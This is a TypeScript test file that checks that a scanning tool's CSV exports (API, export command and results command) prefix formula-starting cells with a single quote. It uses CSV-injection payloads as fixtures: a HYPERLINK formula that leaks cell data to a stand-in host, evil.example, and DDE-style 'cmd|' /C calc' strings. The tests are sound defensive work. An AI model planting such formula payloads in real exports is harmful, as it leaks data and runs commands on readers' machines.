/**
 * CSV that opens as text in a spreadsheet: a cell from a scanned site that starts a formula
 * (`=HYPERLINK(…)`, `+`, `-`, `@`, tab, carriage return) carries OWASP's prefix, a single quote, in the
 * API's format=csv, in `sightline export` and in `sightline results --format csv`. JSON is unchanged.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { toCsv } from "../../src/cli/collections.ts";
import { csvField, csvLine } from "../../src/results/stream.ts";
import { runClientCommand } from "../helpers/processes.ts";
import { startTestServer, type TestServer } from "../helpers/server.ts";
import { apiCollection, parseCsv, runIn } from "./helpers.ts";

const TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';

test("a cell that would start a formula gets the prefix; numbers and plain text do not", () => {
  assert.equal(csvField(TITLE), `"'${TITLE.replaceAll('"', '""')}"`);
  for (const text of ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "=1"])
    assert.equal(parseCsv(csvLine([text]))[0][0], `'${text}`, JSON.stringify(text));
  for (const text of ["-5", "-0.5e1", "0.443e3", "443", "plain, with comma", "a=b", ""])
    assert.equal(parseCsv(`${csvLine([text, "x"])}`)[0][0], text, JSON.stringify(text));
  // Nested values are JSON text: they start with { or [, never a formula.
  assert.equal(csvField({ title: TITLE })[1], "{");
  assert.equal(parseCsv(toCsv([{ title: TITLE }]))[1][0], `'${TITLE}`);
});

describe("CSV exports of formula-bearing results", () => {
  let t: TestServer;
  let home: string;

  before(async () => {
    t = await startTestServer("sqlite", { host: "127.120.0.2", schedulerIntervalSeconds: 3600 });
    home = mkdtempSync(join(tmpdir(), "sightline-csv-"));
    const collection = await apiCollection(t, "formulas");
    await runIn(t, collection, { hosts: 8 });
    // What a hostile site could put in front of a reader: an issue text and a product name from its pages.
    const { db } = t.server.services.store;
    await db
      .updateTable("finding_texts")
      .set({ description: TITLE })
      .where("collection_id", "=", collection.collectionId)
      .execute();
    await db
      .updateTable("entity_products")
      .set({ label: "@SUM(1+1)*cmd|' /C calc'!A0" })
      .where("collection_id", "=", collection.collectionId)
      .execute();
  });
  after(async () => {
    await t?.close();
    if (home) rmSync(home, { recursive: true, force: true });
  });

  test("format=csv of the API", async () => {
    const json = (await t.request("GET", "/api/collections/formulas/issues")).body.result;
    assert.ok(json.length > 0);
    assert.equal(json[0].description, TITLE, "JSON keeps the text as found");
    const [header, ...rows] = parseCsv(
      (await t.request("GET", "/api/collections/formulas/issues?format=csv")).text,
    );
    const column = header.indexOf("description");
    assert.ok(rows.length > 0 && rows.every((row) => row[column] === `'${TITLE}`));
    const products = parseCsv((await t.request("GET", "/api/collections/formulas/products?format=csv")).text);
    assert.equal(products[1][0], "'@SUM(1+1)*cmd|' /C calc'!A0");
  });

  test("sightline export and sightline results --format csv", async () => {
    const file = join(home, "issues.csv");
    const exported = await runClientCommand(t, home, ["export", "formulas", "issues", "--output", file]);
    assert.equal(exported.code, 0, exported.output);
    const [header, ...rows] = parseCsv(readFileSync(file, "utf8"));
    assert.ok(rows.every((row) => row[header.indexOf("description")] === `'${TITLE}`));
    const results = await runClientCommand(t, home, ["results", "formulas", "issues", "--format", "csv"]);
    assert.equal(results.code, 0, results.output);
    const [resultHeader, ...resultRows] = parseCsv(results.output);
    assert.ok(resultRows.length > 0);
    assert.ok(resultRows.every((row) => row[resultHeader.indexOf("description")] === `'${TITLE}`));
  });
});
